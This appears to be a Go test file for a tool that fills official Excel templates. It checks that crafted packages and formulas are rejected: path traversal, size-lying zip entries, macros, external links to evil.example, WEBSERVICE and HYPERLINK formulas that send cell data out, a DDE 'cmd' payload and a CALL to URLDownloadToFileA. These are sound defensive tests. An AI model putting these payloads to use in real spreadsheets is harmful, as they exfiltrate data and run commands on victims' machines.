package render

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/wakachi/wakachi/internal/fault"
)

// relations makes a part with one relation of these attributes.
func relations(attributes string) string {
	return `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" ` + attributes + `/></Relationships>`
}

// packed makes a package of files as they are given, also of such as no program makes.
func packed(t testing.TB, files ...zip.FileHeader) []byte {
	t.Helper()
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, f := range files {
		to, err := w.CreateRaw(&f)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := to.Write(make([]byte, f.CompressedSize64)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// types adds a type to those of a sheet.
func types(t testing.TB, template []byte, one string) []byte {
	return with(t, template, "[Content_Types].xml", strings.Replace(part(t, template, "[Content_Types].xml"), "</Types>", one+"</Types>", 1))
}

func part(t testing.TB, file []byte, name string) string {
	t.Helper()
	text, ok := wordParts(t, file)[name]
	if !ok {
		t.Fatalf("no %s", name)
	}
	return text
}

func TestPackagesThatAreNotUsed(t *testing.T) {
	fine := sheet(t)
	named := func(names ...string) []byte {
		var files []zip.FileHeader
		for _, n := range names {
			files = append(files, zip.FileHeader{Name: n})
		}
		return packed(t, files...)
	}
	many := make([]string, maxParts+1)
	for i := range many {
		many[i] = fmt.Sprint("xl/media/", i, ".png")
	}
	const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	at := "xl/worksheets/_rels/sheet1.xml.rels"
	for what, c := range map[string]struct {
		template []byte
		code     string
	}{
		"a part twice":                       {named("xl/workbook.xml", "xl/workbook.xml"), "render.template.broken"},
		"a part twice in another case":       {named("xl/workbook.xml", "XL/Workbook.xml"), "render.template.broken"},
		"a path that leads out":              {named("xl/../../x.xml"), "render.template.broken"},
		"a path from the root":               {named("/etc/x.xml"), "render.template.broken"},
		"a path of another system":           {named(`xl\..\x.xml`), "render.template.broken"},
		"a drive":                            {named("c:/x.xml"), "render.template.broken"},
		"a part in pieces":                   {with(t, fine, "xl/vba.xml/[0].piece", "x"), "render.template.broken"},
		"encrypted parts":                    {packed(t, zip.FileHeader{Name: "xl/workbook.xml", Flags: 1}), "render.template.broken"},
		"another way of packing":             {packed(t, zip.FileHeader{Name: "xl/workbook.xml", Method: 12}), "render.template.broken"},
		"too many parts":                     {named(many...), "render.template.large"},
		"a part that claims to be large":     {packed(t, zip.FileHeader{Name: "a", UncompressedSize64: 1 << 62}), "render.template.large"},
		"parts that claim more than is so":   {overlapping(t, fine), "render.template.broken"},
		"a part that is larger than it says": {lying(t, with(t, fine, "docProps/custom.xml", strings.Repeat(" ", 1<<20))), "render.template.broken"},
		"a document type":                    {with(t, fine, "xl/theme/theme9.xml", `<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>`), "render.template.broken"},
		"another alphabet":                   {with(t, fine, "xl/theme/theme9.xml", `<?xml version="1.0" encoding="UTF-7"?><a/>`), "render.template.broken"},
		"a part of no type":                  {with(t, fine, "xl/x.unknown", "x"), "render.template.broken"},
		"macros in another case":             {types(t, fine, `<Override PartName="/xl/x.xml" ContentType="application/VND.MS-Excel.Sheet.MacroEnabled.main+xml"/>`), "render.template.macros"},
		"macros as entities":                 {types(t, fine, `<Override PartName="/xl/x.xml" ContentType="application/vnd.ms-excel.sheet.&#109;acro&#x45;nabled.main+xml"/>`), "render.template.macros"},
		"macros of another name":             {types(t, with(t, fine, "xl/fine.bin", "x"), `<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`), "render.template.macros"},
		"macros in a sheet of their own":     {types(t, with(t, fine, "xl/fine.xml", "<a/>"), `<Override PartName="/xl/fine.xml" ContentType="application/vnd.ms-excel.intlmacrosheet+xml"/>`), "render.template.macros"},
		"a ribbon":                           {with(t, fine, at, relations(`Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility" Target="../customUI/customUI.xml"`)), "render.template.macros"},
		"a control":                          {with(t, fine, at, relations(`Type="`+rel+`control" Target="../x.xml"`)), "render.template.macros"},
		"a file by another name":             {types(t, with(t, fine, "xl/media/fine.png", "MZ"), `<Default Extension="png" ContentType="application/octet-stream"/>`), "render.template.links"},
		"a package":                          {with(t, fine, at, relations(`Type="`+rel+`package" Target="../x.docx"`)), "render.template.links"},
		"a query":                            {with(t, fine, at, relations(`Type="`+rel+`queryTable" Target="../x.xml"`)), "render.template.links"},
		"a program of the web":               {with(t, fine, "xl/_rels/x.rels", relations(`Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="x.xml"`)), "render.template.links"},
		"a picture elsewhere":                {with(t, fine, at, relations(`Type="`+rel+`image" Target="http://evil.example/x.png" TargetMode="External"`)), "render.template.links"},
		"elsewhere, without saying so":       {with(t, fine, at, relations(`Type="`+rel+`image" Target="https://evil.example/x.png"`)), "render.template.links"},
		"elsewhere on a share":               {with(t, fine, at, relations(`Type="`+rel+`image" Target="\\evil.example\x.png"`)), "render.template.links"},
		"elsewhere by the same scheme":       {with(t, fine, at, relations(`Type="`+rel+`image" Target="//evil.example/x.png"`)), "render.template.links"},
		"elsewhere in another case":          {with(t, fine, at, relations(`Type="`+rel+`image" Target="x.png" TargetMode=" external"`)), "render.template.links"},
		"a drawing from elsewhere":           {types(t, with(t, fine, "xl/drawings/d.vml", "<v:imagedata\n SRC = 'http://evil.example/x.png'>"), `<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>`), "render.template.links"},
		"a drawing in another alphabet":      {types(t, with(t, fine, "xl/drawings/d.vml", "<\x00v\x00"), `<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>`), "render.template.broken"},
		"no sheets":                          {with(t, fine, "_rels/.rels", relations(`Type="`+rel+`officeDocument" Target="xl/none.xml"`)), "render.template.broken"},
	} {
		_, err := Fill("official.xlsx", c.template, mapOf(t, "form: ppc\nsheet: 様式\ncells: {persons: C12}\n"), filled())
		if code(err) != c.code {
			t.Errorf("%s: %v, want %s", what, err, c.code)
		}
	}
}

// overlapping lets all parts of a package point to the bytes of the first.
func overlapping(t testing.TB, template []byte) []byte {
	file := bytes.Clone(with(t, template, "docProps/custom.xml", strings.Repeat("<a/>", 4000)))
	for at := 0; ; {
		n := bytes.Index(file[at:], []byte("PK\x01\x02"))
		if n < 0 {
			return file
		}
		at += n + 4
		binary.LittleEndian.PutUint32(file[at+16:], uint32(len(file)/2)) // what is packed, of each
	}
}

// lying lets a package say that each part has ten bytes.
func lying(t testing.TB, template []byte) []byte {
	file := bytes.Clone(template)
	for at := 0; ; {
		n := bytes.Index(file[at:], []byte("PK\x01\x02"))
		if n < 0 {
			return file
		}
		at += n + 4
		binary.LittleEndian.PutUint32(file[at+20:], 10)
	}
}

func TestFormulasThatReachOutside(t *testing.T) {
	for formula, want := range map[string]string{
		`WEBSERVICE("http://evil.example/"&C12)`:       "WEBSERVICE",
		`_xlfn.WEBSERVICE(A1)`:                         "WEBSERVICE",
		`_xlfn._xlws.IMAGE (A1)`:                       "IMAGE",
		`1+webservice(A1)`:                             "WEBSERVICE",
		"SUM(1, WebService\n(A1))":                     "WEBSERVICE",
		`'a"b'!A1&WEBSERVICE("x")`:                     "WEBSERVICE",
		`HYPERLINK("http://evil.example/?"&C12)`:       "HYPERLINK",
		`HYPERLINK(A1,"#")`:                            "HYPERLINK",
		`cmd|'/C calc'!A0`:                             "DDE",
		`'cmd|x'!A0`:                                   "DDE",
		`RTD("prog.id",,"x")`:                          "RTD",
		`CALL("urlmon","URLDownloadToFileA","JJCCJJ")`: "CALL",
		`REGISTER.ID("x","y")`:                         "REGISTER.ID",
		`HYPERLINK("#別紙!A1","別紙")`:                     "",
		`IF(A1="○|×","a|b",SUM(B1:B9))`:                "",
		`MYIMAGE(1)+IMAGES(2)+"WEBSERVICE"`:            "",
		`COUNTIF(C12,"*")`:                             "",
		``:                                             "",
	} {
		if got := reachesOutside(formula); got != want {
			t.Errorf("%s: %q, want %q", formula, got, want)
		}
	}
	m := mapOf(t, "form: ppc\nsheet: 様式\ncells: {persons: C12}\n")
	for _, markup := range []string{
		`<f>%s</f>`, `<f><![CDATA[%s]]></f>`, `<f><!-- x -->%s</f>`, `<formula1>%s</formula1>`, `<definedName name="x">%s</definedName>`, `<x:f>%s</x:f>`, `<calculatedColumnFormula>%s</calculatedColumnFormula>`,
	} {
		template := with(t, sheet(t), "xl/worksheets/sheet9.xml", "<a>"+fmt.Sprintf(markup, "WEBSERVICE(A1)")+"</a>")
		_, err := Fill("official.xlsx", template, m, filled())
		if f, ok := err.(*fault.Error); !ok || f.Code != "render.template.formula" || f.Args[1] != "WEBSERVICE" {
			t.Errorf("%s: %v", markup, err)
		}
	}
}

// Sheets of offices have pictures, boxes to tick, settings of printers and types that no part has.
func TestSheetsOfOfficesAreUsed(t *testing.T) {
	template := sheet(t)
	const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	for name, text := range map[string]string{
		"xl/media/image1.PNG": "\x89PNG\r\n\x1a\n", "xl/media/image2.emf": "x", "xl/printerSettings/printerSettings1.bin": "x\x00y",
		"xl/ctrlProps/ctrlProp1.xml":          `<formControlPr objectType="CheckBox" fmlaLink="$A$1"/>`,
		"xl/drawings/vmlDrawing1.vml":         `<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape style='a:b'><v:imagedata o:relid="rId1" o:title="様式"><br></xml>`,
		"xl/worksheets/_rels/sheet2.xml.rels": relations(`Type="` + rel + `ctrlProp" Target="../ctrlProps/ctrlProp1.xml"`),
		"xl/":                                 "",
	} {
		template = with(t, template, name, text)
	}
	for _, one := range []string{
		`<Default Extension="png" ContentType="image/png"/>`, `<Default Extension="emf" ContentType="image/x-emf"/>`, `<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>`,
		`<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>`, `<Default Extension="xlsm" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>`,
		`<Override PartName="/xl/ctrlProps/ctrlProp1.xml" ContentType="application/vnd.ms-excel.controlproperties+xml"/>`,
	} {
		template = types(t, template, one)
	}
	if _, err := Fill("official.xlsx", template, mapOf(t, "form: ppc\nsheet: 様式\ncells: {persons: C12}\n"), filled()); err != nil {
		t.Error(err)
	}
}

// Every byte of every part stays, but for the cells and the mark to work formulas out.
func TestNothingButTheNamedCellsChanges(t *testing.T) {
	template := with(t, sheet(t), "docProps/custom.xml", "<a>\r\n<!-- stays --><b c='d'/></a>")
	f := filled()
	f.Answers[11].Value = "_x0041_\t=1+1\n\x01@𠮟" // persons
	out, err := Fill("official.xlsx", template, mapOf(t, "form: ppc\nsheet: 様式\ncells: {persons: C12}\n"), f)
	if err != nil {
		t.Fatal(err)
	}
	again, err := Fill("official.xlsx", template, mapOf(t, "form: ppc\nsheet: 様式\ncells: {persons: C12}\n"), f)
	if err != nil || !bytes.Equal(out, again) {
		t.Errorf("twice the same sheet is not twice the same file: %v", err)
	}
	before, after := wordParts(t, template), wordParts(t, out)
	if len(before) != len(after) {
		t.Errorf("%d parts became %d", len(before), len(after))
	}
	for name, text := range before {
		switch name {
		case "xl/worksheets/sheet1.xml":
			cell := `<c r="C12" s="1"></c>`
			written := `<c r="C12" s="1" t="inlineStr"><is><t xml:space="preserve">_x005F_x0041_&#x9;=1+1&#xA;@𠮟</t></is></c>`
			if want := strings.Replace(text, cell, written, 1); after[name] != want || want == text {
				t.Errorf("the sheet is\n%s, want\n%s", after[name], want)
			}
		case "xl/workbook.xml":
			if got := strings.Replace(after[name], `<calcPr fullCalcOnLoad="1"/>`, "", 1); got != text && !strings.Contains(text, "calcPr") {
				t.Errorf("the workbook is\n%s, was\n%s", after[name], text)
			}
			if !strings.Contains(after[name], `fullCalcOnLoad="1"`) {
				t.Error("formulas are not worked out anew")
			}
		default:
			if after[name] != text {
				t.Errorf("%s changed", name)
			}
		}
	}
	x, err := excelize.OpenReader(bytes.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if got, err := x.GetCellValue("様式", "C12"); err != nil || got != "_x0041_\t=1+1\n@𠮟" {
		t.Errorf("the cell says %q, %v", got, err)
	}
}

func BenchmarkFill(b *testing.B) {
	template, f := sheet(b), filled()
	m := mapOf(b, "form: ppc\nsheet: 様式\ncells: {persons: C12}\n")
	for b.Loop() {
		out, err := Fill("t", template, m, f)
		if err != nil {
			b.Fatal(err)
		}
		io.Discard.Write(out) //nolint:errcheck // io.Discard takes everything
	}
}
